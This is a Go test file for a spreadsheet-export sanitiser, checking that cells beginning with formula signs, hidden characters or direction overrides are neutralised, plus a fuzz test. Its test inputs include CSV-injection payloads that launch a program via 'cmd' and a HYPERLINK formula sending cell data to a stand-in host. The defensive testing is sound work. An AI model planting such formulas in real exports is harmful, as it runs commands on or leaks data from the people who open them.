package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func TestCell(t *testing.T) {
	for _, row := range []struct{ sentence, text, want string }{
		{"a text stays", `Jansen & "Zonen", 2026/1 (a=b)`, `Jansen & "Zonen", 2026/1 (a=b)`},
		{"nothing stays", "", ""},
		{"a formula becomes a text", "=1+1", "'=1+1"},
		{"one that calls a program", "=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"},
		{"one that tells a server", `=HYPERLINK("https://x.example?"&A1,"pay")`, `'=HYPERLINK("https://x.example?"&A1,"pay")`},
		{"one that begins with a plus", "+31 20 123", "'+31 20 123"},
		{"one that begins with a minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"one of Lotus", "@SUM(1+1)", "'@SUM(1+1)"},
		{"one behind a tab", "\t=1+1", "'=1+1"},
		{"one behind a carriage return", "\r=1+1", "'=1+1"},
		{"one behind a line feed", "\n=1+1", "'=1+1"},
		{"one behind spaces", " \u00a0 =1+1", "'=1+1"},
		{"one behind what does not show", "\u200b\u200d=1+1", "'\u200b\u200d=1+1"},
		{"one behind both", "\u200b =1+1", "'\u200b =1+1"},
		{"one in Chinese width", "＝1+1", "'＝1+1"},
		{"a number is none", "-12.50", "-12.50"},
		{"nor is one without a sign", "1200", "1200"},
		{"a number with a sign too many", "--12", "'--12"},
		{"an exponent is more than a number", "-1e5", "'-1e5"},
		{"an apostrophe is a text already", "'=1+1", "'=1+1"},
		{"lines become spaces", "a\r\nb\u2028c", "a b c"},
		{"controls are shown to be there", "a\x1b[31mb\x00", "a\ufffd[31mb\ufffd"},
		{"so are turns of the reading direction", "a\u202eb\u2066c", "a\ufffdb\ufffdc"},
		{"and what is no text", "a\xffb", "a\ufffdb"},
		{"joiners belong to the writing", "می\u200cخواهم", "می\u200cخواهم"},
		{"no cell is longer than one can be", strings.Repeat("é", 40_000), strings.Repeat("é", longestCell)},
	} {
		if got := Cell(row.text); got != row.want {
			t.Errorf("%s: %q became %.100q, want %.100q", row.sentence, row.text, got, row.want)
		}
	}
}

// TestAppendLine: whatever a program takes for a delimiter, a cell is one cell.
func TestAppendLine(t *testing.T) {
	got := AppendLine([]byte("x\r\n"), []string{`a;=1+1`, `b","=2`, "", "c\t=3|=4", "-1.00"})
	want := "x\r\n" + `"a;=1+1","b"",""=2","","c =3|=4","-1.00"` + "\r\n"
	if diff := cmp.Diff(want, string(got)); diff != "" {
		t.Error(diff)
	}
}

// FuzzExport: a table for people reads back as it was meant, and has no
// formula, control character or turn of the reading direction in it.
func FuzzExport(f *testing.F) {
	for _, s := range []string{"Jansen", "=1+1", "\t=1", "-12.50", "-1+2", "@x", "\u200b=1", "a\"b,c;d", "a\r\nb", "\xff\xed\xa0\x80", "\x1b[2J", "'=x", "＝1", " ", "-", "\u202e=", "=\u0301"} {
		f.Add(s, "x")
		f.Add("x", s)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		text := AppendLine(nil, []string{a, b})
		for _, r := range string(text[:len(text)-2]) {
			if Harmful(r) || r == '\u2028' || r == '\u2029' {
				t.Errorf("%U in %q", r, text)
			}
		}
		r := csv.NewReader(bytes.NewReader(text))
		cells, err := r.Read()
		if err != nil || len(cells) != 2 {
			t.Fatalf("%q reads back as %q, %v", text, cells, err)
		}
		for i, s := range []string{a, b} {
			got := cells[i]
			if got != Cell(s) || Cell(got) != got {
				t.Errorf("%q became %q, which becomes %q", s, got, Cell(got))
			}
			if !utf8.ValidString(got) || utf8.RuneCountInString(got) > longestCell+1 || strings.TrimSpace(got) != got {
				t.Errorf("%q became %q", s, got)
			}
			shown := strings.TrimLeftFunc(got, func(r rune) bool { return unicode.IsSpace(r) || !unicode.IsPrint(r) })
			if shown != "" && strings.ContainsRune(formulaSigns, firstRune(shown)) && !isNumber(got) {
				t.Errorf("%q became the formula %q", s, got)
			}
		}
	})
}
